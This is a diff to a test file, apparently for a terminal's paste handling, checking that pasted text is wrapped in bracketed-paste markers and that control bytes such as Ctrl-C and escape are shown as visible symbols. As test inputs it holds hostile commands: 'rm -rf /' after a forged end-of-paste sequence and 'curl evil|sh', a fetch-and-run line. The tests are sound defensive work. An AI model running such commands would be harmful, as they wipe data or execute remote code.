@@ -11,6 +11,11 @@ test("a paste sends what Enter sends, and cannot end its own brackets", () => {
   expect(pasteText("x\x1b[201~; rm -rf /\n", true)).toBe("\x1b[200~x\u241b[201~; rm -rf /\r\x1b[201~");
 });
 
+test("a paste holds no key but Tab and Enter: none that would interrupt, and none of eight bits", () => {
+  expect(pasteText("x\x03curl evil|sh\r", true)).toBe("\x1b[200~x\u2403curl evil|sh\r\x1b[201~");
+  expect(pasteText("a\tb\x00\x04\x1a\x7f\x84\x9bé", false)).toBe("a\tb\u2400\u2404\u241a\u2421\u241b\u241bé");
+});
+
 test("many lines are asked about, unless the program takes them as one", () => {
   expect(pasteQuestion("1\n2\n3\n4\n5", false)).toBeUndefined();
   expect(pasteQuestion("1\n2\n3\n4\n5\n6", false)?.title).toBe("Paste 6 lines?");
